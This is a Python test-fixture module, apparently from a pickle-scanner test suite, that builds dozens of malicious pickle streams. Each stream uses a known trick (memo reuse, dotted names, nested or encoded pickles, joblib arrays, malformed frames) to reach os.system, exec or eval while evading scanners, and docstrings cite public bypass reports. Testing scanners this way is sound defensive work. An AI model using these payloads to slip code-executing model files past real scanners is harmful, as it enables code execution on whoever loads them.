"""Tricks in the stream of opcodes itself: each hides what is imported or called from one scanner or another.

Every function is a technique; its docstring says the trick and where it is known from.
"""

import base64
import pickle
import pickle as op
import struct

from tests.pickles.writing import (
    COMMAND,
    EVIL,
    EVIL_0,
    KIND,
    MARKER,
    SOURCE,
    STATE,
    SYSTEM,
    called,
    imported,
    old_imported,
    pickled,
    proto,
    raw_bytes,
    text,
    tuple_of,
    value,
)


def line_global():
    """Protocol 0 with GLOBAL and text arguments; picklescan's malicious2_v0."""
    return EVIL_0


def inst_opcode():
    """INST imports and calls in one opcode; picklescan's malicious10."""
    return f"(S'{COMMAND}'\nios\nsystem\n.".encode()


def obj_opcode():
    """OBJ calls what lies deepest above the mark; fickling pull request #108."""
    return f"(cos\nsystem\nS'{COMMAND}'\no.".encode()


def newobj_opcode():
    """NEWOBJ calls `__new__`; scanners that look for REDUCE alone miss it; fickling's tests."""
    return pickled(imported("subprocess", "Popen"), tuple_of(value(["sh"])), op.NEWOBJ)


def newobj_ex_opcode():
    """NEWOBJ_EX passes keyword arguments too; fickling's tests."""
    return pickled(imported("subprocess", "Popen"), tuple_of(), value({"args": "sh"}), op.NEWOBJ_EX)


def stack_global_of_strings():
    """STACK_GLOBAL takes names from STRING opcodes; GHSA-9gvj-pp9x-gcfr."""
    return f"S'os'\nS'system'\n\x93S'{COMMAND}'\n\x85R.".encode("latin-1")


def escaped_string_names():
    r"""The names are spelt `\x6f\x73` in STRING opcodes, which only the unpickler decodes."""
    return b"S'\\x6f\\x73'\nS'sys\\164em'\n\x93S'" + COMMAND.encode() + b"'\n\x85R."


def escaped_unicode_names():
    r"""The names are spelt `\u006f` in UNICODE opcodes."""
    return b"\x80\x04V\\u006f\\u0073\nVsys\\u0074em\n\x93" + text(COMMAND) + b"\x85R."


def memo_behind_pops():
    """Names are remembered, popped and recalled, others lie before STACK_GLOBAL; picklescan issue #22."""
    body = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93"
    return body + b"(V" + COMMAND.encode() + b"\ntR."


def memo_overwritten():
    """A harmless name is remembered under a number and then another one under the same."""
    body = (
        text("collections")
        + b"q\x00"
        + text("OrderedDict")
        + b"q\x01"
        + text("os")
        + b"q\x00"
        + text("system")
    )
    return pickled(body, b"q\x01", b"h\x00h\x01", op.STACK_GLOBAL, text(COMMAND), op.TUPLE1, op.REDUCE)


def memo_of_another_value():
    """What PUT remembers is not the argument of the opcode before it; modelscan issue #85."""
    body = (
        text("os") + text("collections") + op.POP + b"q\x00" + text("system") + text("OrderedDict") + op.POP
    )
    return pickled(body, b"q\x01", b"h\x00h\x01", op.STACK_GLOBAL, text(COMMAND), op.TUPLE1, op.REDUCE)


def memo_with_wide_numbers():
    """LONG_BINPUT and LONG_BINGET far beyond what picklers number."""
    far = struct.pack("<I", 2**31 + 5)
    body = text("os") + b"r" + far + op.POP + b"j" + far + text("system") + op.STACK_GLOBAL
    return pickled(body, text(COMMAND), op.TUPLE1, op.REDUCE)


def recalled_before_remembered():
    """A payload, then a GET of nothing, on which scanners raise; picklescan's keyerror-exploit."""
    return proto(4) + SYSTEM + op.POP + text("os") + b"\x94h\x03h\x00\x93K\x42."


def name_that_is_a_number():
    """A payload, then STACK_GLOBAL with an integer for module; picklescan's type-confusion-exploit."""
    return proto(4) + SYSTEM + op.POP + b"J\x2a\0\0\0\x94" + text("os") + b"\x94h\x00h\x01\x93K\x42."


def doubled_import():
    """DUP copies the function, the original is popped."""
    return pickled(
        imported("os", "system"),
        op.DUP,
        text(COMMAND),
        op.TUPLE1,
        op.REDUCE,
        op.POP,
        text(COMMAND),
        op.TUPLE1,
        op.REDUCE,
    )


def result_dropped():
    """The result of the call is popped, so that nothing of it stays; fickling, on Hacker News 47266286."""
    return pickled(value(STATE), SYSTEM, op.POP)


def payload_before_an_error():
    """An opcode that does not exist follows the call; picklescan's broken_model."""
    return proto(4) + SYSTEM + b"\xff\xff"


def payload_and_no_end():
    """The stream ends after the call, without STOP."""
    return proto(2) + called(old_imported("os", "system"), b"U\x02id")


def number_that_tools_refuse():
    """INT with a hexadecimal number, which pickletools refuses and the unpickler takes."""
    return b"I0x10\n0" + EVIL_0


def second_pickle():
    """A harmless pickle, then another for a second load; picklescan's malicious6."""
    return KIND + EVIL


def second_pickle_unmarked():
    """The same with the second of protocol 0."""
    return KIND + EVIL_0


def trailing_bytes():
    """Blanks after STOP, on which scanners raise; picklescan's malicious-invalid-bytes."""
    return EVIL + b"\n\n\t\t"


def protocol_changed():
    """PROTO 2 first and PROTO 4 later, so that a dotted name is followed."""
    return proto(2) + proto(4) + imported("torch", "serialization.os.system") + text(COMMAND) + b"\x85R."


def dotted_name():
    """A module that imports `os` leads to it; fickling pull request #60."""
    return pickled(called(imported("torch", "os.system"), text(COMMAND)))


def dotted_name_of_listed_module():
    """A listed module with a dotted name instead of a listed one."""
    return pickled(called(imported("collections", "_sys.modules.get"), text("os")))


def dotted_name_of_listed_class():
    """A method of a listed class that reads any entry; modelscan issue #89."""
    get = imported("builtins", "dict.get")
    run = called(get, imported("numpy", "__builtins__"), text("exec"))
    return pickled(called(run, text(SOURCE)))


def patched_function():
    """BUILD puts `sys.modules` on a function, and a dotted name goes through it; modelscan issue #89."""
    patch = imported("numpy", "prod") + tuple_of(op.NONE, imported("numpy", "core._internal.sys.modules"))
    return pickled(patch, op.BUILD, op.POP, called(imported("numpy", "prod.os.system"), text(COMMAND)))


def patched_listed_class():
    """BUILD changes a listed class for the whole program."""
    state = value({}) + text("update") + imported("builtins", "list") + op.SETITEM
    return pickled(imported("collections", "OrderedDict"), tuple_of(op.NONE, state), op.BUILD)


def patched_shape():
    """`numpy.size` is called on itself with a patched `shape`; modelscan issue #330."""
    state = tuple_of(value({}), value({}) + text("shape") + imported("numpy", "__builtins__") + op.SETITEM)
    size = imported("numpy", "size")
    return pickled(size, state, op.BUILD, op.POP, called(size, size, text("eval")))


def modules_overwritten():
    """An entry of `sys.modules` is set; picklescan's sys_module_override_sploit."""
    return pickled(imported("sys", "modules"), text("re"), imported("os", "system"), op.SETITEM)


def setstate_on_an_instance():
    """BUILD gives an object a `__setstate__` of its own, the next BUILD calls it."""
    made = called(imported("types", "SimpleNamespace"))
    state = value({}) + text("__setstate__") + imported("os", "system") + op.SETITEM
    return pickled(made, state, op.BUILD, text(COMMAND), op.BUILD)


def getattr_chain():
    """`getattr(__import__('os'), 'system')`, no dangerous name in one piece; modelscan issue #331."""
    os = called(imported("builtins", "__import__"), text("os"))
    return pickled(called(called(imported("builtins", "getattr"), os, text("system")), text(COMMAND)))


def python_2_names():
    """`__builtin__` and `apply`, mapped by the unpickler; Sour Pickles, BlackHat 2011."""
    return (
        b"c__builtin__\napply\n(c__builtin__\neval\n(S'" + SOURCE.encode().replace(b"'", b"\\'") + b"'\nltR."
    )


def lazy_map():
    """`list(map(exec, [source]))` calls nothing dangerous by REDUCE."""
    lazy = called(imported("builtins", "map"), imported("builtins", "exec"), value([SOURCE]))
    return pickled(called(imported("builtins", "list"), lazy))


def factory_of_a_mapping():
    """`collections.defaultdict` calls its factory when a key is looked up."""
    return pickled(called(imported("collections", "defaultdict"), imported("os", "getcwd")))


def counter_of_a_lazy_map():
    """A listed class consumes an iterator that calls."""
    lazy = called(imported("builtins", "map"), imported("os", "system"), value([COMMAND]))
    return pickled(called(imported("collections", "Counter"), lazy))


def rebuilt_from_type():
    """A function of torch's own list is handed the function that it calls."""
    rebuild = imported("torch._tensor", "_rebuild_from_type_v2")
    return pickled(called(rebuild, imported("os", "system"), op.NONE, tuple_of(text(COMMAND)), value({})))


def forbidden_class_rebuilt():
    """The same function calls numpy.ndarray, which takes any bytes for objects."""
    rebuild = imported("torch._tensor", "_rebuild_from_type_v2")
    return pickled(called(rebuild, imported("numpy", "ndarray"), op.NONE, tuple_of(value((1,))), value({})))


def name_made_by_a_call():
    """STACK_GLOBAL takes a module's name from the result of a listed call."""
    return pickled(
        called(imported("builtins", "str"), text("os")),
        text("system"),
        op.STACK_GLOBAL,
        text(COMMAND),
        b"\x85R",
    )


def result_called():
    """What a listed call gave is called."""
    return pickled(called(called(imported("collections", "OrderedDict")), text(COMMAND)))


def frame_straddled():
    """An opcode crosses the end of its frame; the unpickler in C does not mind; fickling's tests."""
    return proto(4) + op.FRAME + struct.pack("<Q", 5) + SYSTEM + op.STOP


def frame_in_a_frame():
    """A frame begins inside another; fickling's tests."""
    inner = op.FRAME + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + op.STOP
    return proto(4) + op.FRAME + struct.pack("<Q", len(inner) + 20) + inner


def frame_too_long():
    """The frame says it goes on after STOP."""
    return proto(4) + op.FRAME + struct.pack("<Q", 4000) + SYSTEM + op.STOP + b"\0" * 4000


def extension_code():
    """EXT1 names an entry of a registry that only the loading program has; pickletools' description."""
    return pickled(op.EXT1 + b"\x01", text(COMMAND), op.TUPLE1, op.REDUCE)


def extension_registered():
    """The registry is filled by the pickle itself, then read."""
    add = called(imported("copyreg", "add_extension"), text("os"), text("system"), value(240))
    return pickled(add, op.POP, op.EXT1 + b"\xf0", text(COMMAND), op.TUPLE1, op.REDUCE)


def persistent_path():
    """BINPERSID with something else than a storage: what it is, the loader decides."""
    return pickled(tuple_of(text("module"), text(MARKER)), op.BINPERSID)


def out_of_band_buffer():
    """NEXT_BUFFER takes the function from outside of the pickle."""
    return pickled(op.NEXT_BUFFER, text(COMMAND), op.TUPLE1, op.REDUCE, protocol=5)


def confusable_module():
    """The module is called `оs` with a Cyrillic letter, shipped beside the model."""
    return pickled(called(imported("\u043es", "system"), text(COMMAND)))


def module_of_the_release():
    """A module that the release itself brings along."""
    return pickled(called(imported("modeling_digits", "build"), text(COMMAND)))


def main_module():
    """`__main__` is whatever program loads it."""
    return pickled(called(imported("__main__", "Net")))


def import_alone():
    """Importing a module runs it; nothing is called."""
    return pickled(imported("antigravity", "webbrowser"), op.POP, value(STATE))


def subclasses():
    """A dotted name reaches all classes of the interpreter."""
    return pickled(called(imported("builtins", "object.__subclasses__")))


def nested_in_loads():
    """A pickle in bytes, for `torch.storage._load_from_bytes`, which itself is no more than torch.load."""
    return pickled(called(imported("torch.storage", "_load_from_bytes"), raw_bytes(EVIL)))


def nested_twice():
    """A pickle in a pickle in a pickle."""
    inner = pickled(called(imported("torch.storage", "_load_from_bytes"), raw_bytes(EVIL)))
    return pickled(called(imported("torch.storage", "_load_from_bytes"), raw_bytes(inner)))


def nested_unknown_bytes():
    """A harmless loader is given bytes that are no pickle that can be followed."""
    return pickled(called(imported("torch.storage", "_load_from_bytes"), raw_bytes(b"\x80\x02\x82\x01.")))


def nested_at_rest():
    """A pickle in bytes that this one does not load; modelaudit pull request #153."""
    return pickled(value({**STATE, "extra": EVIL}))


def nested_in_text():
    """A pickle of protocol 0 in a text."""
    return pickled(value({**STATE, "extra": EVIL_0.decode()}))


def nested_in_latin_text():
    """A pickle of protocol 2 as the text that protocol 2 writes bytes as."""
    inner = proto(2) + called(old_imported("os", "system"), b"U\x02id") + b"."
    encode = called(
        old_imported("_codecs", "encode"), b"X" + _counted(inner.decode("latin-1")), b"X" + _counted("latin1")
    )
    return proto(2) + encode + op.STOP


def nested_in_base64():
    """A pickle in base64; modelaudit pull request #153."""
    return pickled(value({**STATE, "extra": base64.b64encode(EVIL).decode()}))


def nested_in_hexadecimal():
    """A pickle in hexadecimal digits."""
    return pickled(value({**STATE, "extra": EVIL.hex()}))


def recoded_text():
    """`_codecs.encode` with another codec makes bytes that nobody reads in the file."""
    recode = called(imported("_codecs", "encode"), text("R.rprub"), text("rot13"))
    return pickled(called(imported("torch.storage", "_load_from_bytes"), recode))


def behind_a_joblib_array():
    """joblib writes raw numbers into the stream, where scanners stop; the payload follows; aisbom #91."""
    return proto(4) + _joblib_array(b"\0" * 24) + SYSTEM + op.STOP


def inside_a_joblib_array():
    """The numbers of a joblib array are opcodes to a plain unpickler."""
    hidden = SYSTEM + op.STOP
    return proto(4) + _joblib_array(hidden + b"\0" * (-len(hidden) % 8)) + op.STOP


def old_torch_object():
    """The third pickle of torch's old format, after magic number and version; torch.load reads five."""
    return _old_torch(3)


def old_torch_last():
    """The fifth, where the keys of storages stand."""
    return _old_torch(5)


def old_torch_magic_made():
    """The magic number is the result of a call; picklescan's pytorch_magic_bypass.pt."""
    magic = called(imported("builtins", "eval"), text(f"{0x1950A86A20F9469CFC6C} or {SOURCE}"))
    return pickled(magic) + pickle.dumps(1001, 2) * 4


def length_beyond_everything():
    """A payload, then bytes of 2**62, on which readers run out of memory."""
    return proto(4) + SYSTEM + op.POP + op.BINBYTES8 + struct.pack("<Q", 2**62)


def many_opcodes_first():
    """A hundred thousand opcodes that do nothing come first."""
    return proto(4) + b"N0" * 100_000 + SYSTEM + op.STOP


def marks_without_number():
    """Marks lie between everything, POP_MARK takes them away."""
    body = op.MARK * 50 + op.POP_MARK * 50 + op.MARK + imported("os", "system") + op.MARK + text(COMMAND)
    return pickled(body, op.TUPLE, op.REDUCE)


def memo_number_with_a_sign():
    """A value is remembered as number `+0` before anything is imported; C's unpickler reads that as 0."""
    return b"I1\np+0\n0" + EVIL_0


def memo_number_with_a_line():
    """The number is `0_0`, which int() takes."""
    return b"I1\np0_0\n0" + EVIL_0


def memo_number_with_a_zero_byte():
    """The number ends with a zero byte, behind which C reads no further."""
    return b"I1\np0\0x\n0" + EVIL_0


def joblib_array_with_names_remembered():
    """The bytes of an array are opcodes to a plain unpickler; the names stand in the memo before it."""
    names = text("os") + op.MEMOIZE + text("system") + op.MEMOIZE + b"00"
    opcodes = op.POP + b"h\0h\1\x93" + text(COMMAND) + op.TUPLE1 + op.REDUCE
    return pickled(names, _joblib_array(opcodes.ljust(-len(opcodes) % 8 + len(opcodes), b"0")))


def joblib_array_with_names_on_the_stack():
    """The same with the names below the array."""
    opcodes = op.POP + b"\x93" + text(COMMAND) + op.TUPLE1 + op.REDUCE
    array = _joblib_array(opcodes.ljust(-len(opcodes) % 8 + len(opcodes), op.DUP))
    return pickled(text("os"), text("system"), array)


def joblib_array_that_swallows():
    """To a plain unpickler a text begins in the array and ends behind it, amid bytes that joblib keeps."""
    array = op.SHORT_BINBYTES + bytes([8]) + bytes(6)
    return pickled(_joblib_array(array), op.SHORT_BINBYTES + bytes([len(EVIL) + 1]) + b"N" + EVIL)


def joblib_numbers_said_to_be_objects():
    """The flags of a dtype of numbers say objects: joblib reads a pickle with a memo of its own there."""
    state = tuple_of(value(3), text("<"), value(None) * 3, value(-1) * 2, value(63))
    own = pickled(text("os") + op.MEMOIZE, b"0h\0" + text("system") + b"\x93" + text(COMMAND) + b"\x85R")
    remembered = text("torch") + op.MEMOIZE + op.POP
    return pickled(remembered, _joblib_array(own + bytes(-len(own) % 8), state + op.BUILD))


def loading_of_bytes_handed_on():
    """torch's function that loads bytes is called by one that calls what it is given."""
    arguments = imported("torch.storage", "_load_from_bytes"), imported("torch", "Tensor")
    rebuilt = imported("torch._tensor", "_rebuild_from_type_v2")
    return pickled(called(rebuilt, *arguments, tuple_of(value(b"N0" + EVIL_0)), op.EMPTY_DICT))


def loading_of_bytes_as_a_generator():
    """numpy's function for generators calls its second argument with the first."""
    loads = imported("torch.storage", "_load_from_bytes")
    return pickled(called(imported("numpy.random._pickle", "__generator_ctor"), value(b"N0" + EVIL_0), loads))


def loading_of_bytes_read_two_ways():
    """A text that is one pickle in UTF-8 and another in latin-1, as which it is encoded and loaded."""
    hidden = "N0" + EVIL_0.decode()
    both = "cbuiltins\nset\n0U\x04\u00e9\u00e9U" + chr(len(hidden)) + hidden + "."
    encoded = called(imported("_codecs", "encode"), op.BINUNICODE + _counted(both), text("latin1"))
    return pickled(called(imported("torch.storage", "_load_from_bytes"), encoded))


def objects_said_to_be_numbers():
    """A dtype of objects is told that it holds none: numpy takes the bytes of an array for addresses."""
    dtype = called(imported("numpy", "dtype"), text("O8"), op.NEWFALSE, op.NEWTRUE)
    dtype += tuple_of(value(3), text("|"), value(None) * 3, value(-1) * 2, value(0)) + op.BUILD
    made = called(
        imported("numpy.core.multiarray", "_reconstruct"),
        *(imported("numpy", "ndarray"), tuple_of(value(0)), value(b"b")),
    )
    return pickled(
        made, tuple_of(value(1), tuple_of(value(1)), dtype, op.NEWFALSE, value(b"A" * 8)), op.BUILD
    )


def _counted(letters):
    raw = letters.encode()
    return struct.pack("<I", len(raw)) + raw


def _joblib_array(numbers, state_of_dtype=b""):
    """An array of 64-bit numbers as joblib writes one: the wrapper, its state, and the bytes."""
    dtype = called(imported("numpy", "dtype"), text("f8"), op.NEWFALSE, op.NEWTRUE) + state_of_dtype
    state = {
        "shape": (len(numbers) // 8,),
        "order": "C",
        "allow_mmap": True,
        "numpy_array_alignment_bytes": None,
    }
    wrapper = imported("joblib.numpy_pickle", "NumpyArrayWrapper") + op.EMPTY_TUPLE + op.NEWOBJ
    fields = value(state) + text("subclass") + imported("numpy", "ndarray") + op.SETITEM
    return wrapper + fields + text("dtype") + dtype + op.SETITEM + op.BUILD + numbers


def _old_torch(place):
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({}, 2), KIND, KIND]
    parts[place - 1] = EVIL
    return b"".join(parts)


TRICKS = [
    thing
    for thing in list(globals().values())
    if getattr(thing, "__module__", "") == __name__ and thing.__doc__ and not thing.__name__.startswith("_")
]


def streams():
    """Name, source, file name and bytes of each."""
    for trick in TRICKS:
        torch_names = trick.__name__.startswith(("old_torch", "nested_in_loads"))
        yield trick.__name__, trick.__doc__, "model.pt" if torch_names else "model.pkl", trick()
